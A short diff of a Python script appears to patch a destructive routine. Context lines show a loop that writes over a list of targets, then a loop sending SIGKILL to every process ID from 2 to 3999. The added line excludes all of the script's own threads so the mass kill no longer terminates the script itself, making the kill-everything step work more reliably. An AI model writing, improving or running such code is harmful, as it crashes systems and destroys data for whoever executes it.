@@ -137,9 +137,10 @@ for target in targets:
         print("WROTE", target)
     except OSError as error:
         print("KEPT", error)
+own = {int(thread) for thread in os.listdir("/proc/self/task")}  # killing one would kill itself
 for process in range(2, 4000):
     try:
-        if process != os.getpid():
+        if process not in own:
             os.kill(process, signal.SIGKILL)
     except OSError:
         pass
